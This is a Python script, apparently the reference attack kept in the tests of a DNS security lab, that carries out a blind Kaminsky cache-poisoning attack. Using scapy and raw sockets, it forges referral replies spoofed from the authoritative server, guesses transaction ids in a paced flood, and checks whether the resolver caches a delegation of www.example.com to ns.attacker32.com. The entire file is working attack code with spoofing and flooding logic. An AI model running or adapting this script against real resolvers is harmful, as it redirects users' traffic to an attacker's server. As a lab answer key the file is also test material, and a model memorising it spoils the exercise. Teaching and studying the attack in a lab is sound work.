#!/usr/bin/env python3
"""The dns-remote-kaminsky lab's reference attack (kept in the tests, never in the handout).

Blind: the attacker never sees the resolver's queries. Each try makes the resolver ask
example.com's server about a name nobody asked before (RANDOM.www.example.com, so the cache
never has the answer), and while that query travels to the far server, floods the resolver's
fixed query port with forged replies "from" that server, each with another guessed transaction
id. A forged reply is a REFERRAL (no answer, not authoritative): www.example.com is delegated to
ns.attacker32.com. bind 9.18 caches referral NS data; it no longer caches the NS records of a
forged ANSWER's authority section (the 2008 form of the attack), see PLATFORM.md.

The flood is paced (RATE packets/s) so that the resolver, on the same 2 cores, keeps up; it
stops when the resolver answers the trigger (the race is over, won or lost). Success is read
from the resolver's cache with recursion off. Bounded by TRIES and SECONDS: exits 0 once the
delegation is cached, 1 when either bound is reached first.
"""

import argparse
import os
import random
import select
import socket
import struct
import sys
import time

from scapy.all import DNS, DNSQR, DNSRR, IP, UDP, raw

ID_OFFSET = 28  # IPv4 header (20 bytes, no options) + UDP header (8): the DNS id comes first


def dns_query(name: str, qtype: str, recurse: bool) -> bytes:
    return raw(DNS(id=random.randrange(65536), rd=int(recurse), qd=DNSQR(qname=name, qtype=qtype)))


def forged_referral(args, trigger: str) -> bytearray:
    """The referral the attacker wants cached, as an IPv4 packet; the id is patched per guess."""
    packet = (
        IP(src=args.server, dst=args.resolver)
        # Checksum 0: none, which IPv4 allows, so that patching the id needs no new checksum.
        / UDP(sport=53, dport=args.port, chksum=0)
        / DNS(
            id=0,
            qr=1,
            aa=0,
            rd=0,
            qd=DNSQR(qname=trigger, qtype="A"),
            ns=DNSRR(rrname=args.delegated, type="NS", ttl=86400, rdata=args.ns_name),
        )
    )
    return bytearray(raw(packet))


def ask(sock: socket.socket, resolver: str, query: bytes, timeout: float) -> DNS | None:
    sock.sendto(query, (resolver, 53))
    deadline = time.monotonic() + timeout
    while (left := deadline - time.monotonic()) > 0:
        if not select.select([sock], [], [], left)[0]:
            break
        reply = DNS(sock.recv(4096))
        if reply.id == DNS(query).id:
            return reply
    return None


def poisoned(sock: socket.socket, args) -> bool:
    """The resolver's cache (recursion off) sends questions about www to the attacker's server."""
    reply = ask(sock, args.resolver, dns_query(args.delegated, "NS", recurse=False), 3)
    if reply is None:
        return False
    records = [reply.an[i] for i in range(reply.ancount)] + [reply.ns[i] for i in range(reply.nscount)]
    return any(rr.type == 2 and rr.rdata.decode().lower() == args.ns_name for rr in records)


def flood(raw_sock: socket.socket, trigger_sock: socket.socket, packet: bytearray, args) -> int:
    """Forged replies with successive ids from a random one, until the trigger is answered."""
    first = random.randrange(65536)
    sent = 0
    start = time.monotonic()
    while sent < 65536 and time.monotonic() - start < args.window:
        for _ in range(256):
            packet[ID_OFFSET : ID_OFFSET + 2] = struct.pack("!H", (first + sent) & 0xFFFF)
            try:
                raw_sock.sendto(packet, (args.resolver, 0))
            except OSError:  # a full socket buffer: drop this guess, go on
                pass
            sent += 1
        if select.select([trigger_sock], [], [], 0)[0]:
            break  # the resolver answered the trigger: this race is over
        ahead = sent / args.rate - (time.monotonic() - start)
        if ahead > 0:
            time.sleep(ahead)
    return sent


def main() -> int:
    parser = argparse.ArgumentParser()
    parser.add_argument("--resolver", required=True, help="the resolver's address")
    parser.add_argument("--server", required=True, help="example.com's server (forged source)")
    parser.add_argument("--port", type=int, required=True, help="the resolver's query port")
    parser.add_argument("--delegated", default="www.example.com.", help="the zone to take")
    parser.add_argument("--ns-name", default="ns.attacker32.com.")
    parser.add_argument("--rate", type=int, default=40000, help="forged packets per second")
    parser.add_argument("--window", type=float, default=2.0, help="longest flood per try, s")
    parser.add_argument("--tries", type=int, default=100)
    parser.add_argument("--seconds", type=float, default=60)
    args = parser.parse_args()

    raw_sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    started = time.monotonic()
    # One lookup first, so that the resolver knows example.com's server and asks it at once.
    ask(sock, args.resolver, dns_query(f"warm-{os.urandom(4).hex()}.{args.delegated}", "A", True), 10)
    total = 0
    for attempt in range(1, args.tries + 1):
        if time.monotonic() - started > args.seconds:
            break
        trigger = f"{os.urandom(5).hex()}.{args.delegated}"
        packet = forged_referral(args, trigger)
        trigger_sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        trigger_sock.sendto(dns_query(trigger, "A", True), (args.resolver, 53))
        total += flood(raw_sock, trigger_sock, packet, args)
        # Let the resolver finish this look-up: one in flight at a time on its single port.
        select.select([trigger_sock], [], [], 3)
        trigger_sock.close()
        if poisoned(sock, args):
            took = time.monotonic() - started
            print(f"poisoned after {attempt} tries, {total} forged replies, {took:.1f} s", flush=True)
            return 0
    took = time.monotonic() - started
    print(f"not poisoned after {attempt} tries, {total} forged replies, {took:.1f} s", flush=True)
    return 1


if __name__ == "__main__":
    sys.exit(main())
